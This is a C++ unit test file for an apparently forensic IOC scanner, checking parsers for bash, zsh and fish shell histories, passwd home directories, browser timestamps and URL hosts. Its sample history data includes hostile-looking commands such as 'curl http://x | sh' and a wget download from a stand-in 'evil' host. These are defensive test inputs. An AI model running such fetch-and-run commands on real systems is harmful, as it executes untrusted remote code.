// The pure parsers of the history documents on literal samples: bash (with and without
// HISTTIMEFORMAT timestamps), zsh (extended, continued lines, metafied bytes), fish, passwd homes,
// browser times and URL hosts.
#include <catch2/catch.hpp>

#include "collect/history/browser_profiles.h"
#include "collect/history/shell_history.h"
#include "collect/history/user_homes.h"

namespace iocscan::collect {
namespace {

TEST_CASE("bash history without timestamps: one undated entry per line", "[collect][history]") {
  std::vector<ShellHistoryEntry> e = ParseBashHistory("ls -la\n\ncurl http://x | sh\nexit");
  REQUIRE(e.size() == 3);
  CHECK(e[0].command == "ls -la");
  CHECK_FALSE(e[0].time);
  CHECK(e[0].order == 1);
  CHECK(e[1].command == "curl http://x | sh");
  CHECK(e[2].command == "exit");
  CHECK(e[2].order == 3);
}

TEST_CASE("bash history with #epoch lines: timed entries, multi-line ones joined", "[collect][history]") {
  std::vector<ShellHistoryEntry> e =
      ParseBashHistory("old undated\n#1795867200\nid\n#1795867260\nfor i in 1 2; do\n  echo $i\ndone\n#bad\n");
  REQUIRE(e.size() == 3);
  CHECK_FALSE(e[0].time);
  CHECK(e[1].command == "id");
  CHECK(e[1].time == 1795867200);
  CHECK(e[2].command == "for i in 1 2; do\n  echo $i\ndone\n#bad");
  CHECK(e[2].time == 1795867260);
}

TEST_CASE("zsh extended history, continued lines and metafied bytes", "[collect][history]") {
  std::string metafied = std::string(": 1795867300:0;echo caf\xC3") + "\x83" + std::string(1, static_cast<char>(0xA9 ^ 0x20)) + "\n";
  std::vector<ShellHistoryEntry> e = ParseZshHistory(
      ": 1795867200:3;ssh root@10.0.0.9\n: 1795867250:0;echo a \\\nb\nplain line\n" + metafied);
  REQUIRE(e.size() == 4);
  CHECK(e[0].command == "ssh root@10.0.0.9");
  CHECK(e[0].time == 1795867200);
  CHECK(e[1].command == "echo a \nb");
  CHECK(e[1].time == 1795867250);
  CHECK(e[2].command == "plain line");
  CHECK_FALSE(e[2].time);
  CHECK(e[3].command == "echo caf\xC3\xA9");
}

TEST_CASE("fish history entries with when and paths", "[collect][history]") {
  std::vector<ShellHistoryEntry> e = ParseFishHistory(
      "- cmd: wget http://evil/x -O /tmp/x\n  when: 1795867200\n  paths:\n    - /tmp/x\n"
      "- cmd: echo one\\ntwo \\\\ done\n  when: 1795867201\n");
  REQUIRE(e.size() == 2);
  CHECK(e[0].command == "wget http://evil/x -O /tmp/x");
  CHECK(e[0].time == 1795867200);
  CHECK(e[1].command == "echo one\ntwo \\ done");
  CHECK(e[1].order == 2);
}

TEST_CASE("passwd homes: one per home, odd lines skipped", "[collect][history]") {
  std::vector<UserHome> h = ParseUserHomes(
      "root:x:0:0:root:/root:/bin/bash\n# comment\n+nis::::::\nbad line\n"
      "alice:x:1000:1000:Alice,,,:/home/alice:/bin/zsh\nalias:x:1001:1001::/home/alice:/bin/sh\n"
      "norel:x:5:5::relative:/bin/sh\nsys:x:abc:1::/x:/bin/sh");
  REQUIRE(h.size() == 2);
  CHECK(h[0].user == "root");
  CHECK(h[0].home == "/root");
  CHECK(h[1].user == "alice");
  CHECK(h[1].uid == 1000);
}

TEST_CASE("browser times and URL hosts", "[collect][history]") {
  CHECK(ChromeTimeToEpoch(13408300800000000) == 1763827200);
  CHECK(ChromeTimeToEpoch(EpochToChromeTime(1795867200) + 999999) == 1795867200);
  CHECK(FirefoxTimeToEpoch(1795867200123456) == 1795867200);
  CHECK(HostOfUrl("https://user:pw@Example.com:8443/x?y#z") == "Example.com");
  CHECK(HostOfUrl("http://[2001:db8::1]:80/") == "2001:db8::1");
  CHECK(HostOfUrl("http://evil.example") == "evil.example");
  CHECK(HostOfUrl("about:blank") == "");
  CHECK(HostOfUrl("file:///etc/passwd") == "");
}

}  // namespace
}  // namespace iocscan::collect
